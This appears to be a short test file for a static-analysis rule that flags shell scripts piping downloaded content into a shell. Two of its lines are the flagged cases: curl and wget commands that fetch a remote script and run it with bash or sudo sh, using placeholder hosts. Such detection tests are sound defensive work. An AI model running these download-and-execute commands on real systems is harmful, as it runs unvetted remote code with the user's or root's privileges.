#!/usr/bin/env bash
# ruleid: bash-download-pipe-shell
curl -fsSL https://get.example.invalid/setup.sh | bash
# ruleid: bash-download-pipe-shell
wget -qO- http://203.0.113.4/i | sudo sh
# ok: bash-download-pipe-shell
curl -fsSLo setup.sh https://get.example.invalid/v1/setup.sh
# ok: bash-download-pipe-shell
curl -s https://api.example.com/items | jq .
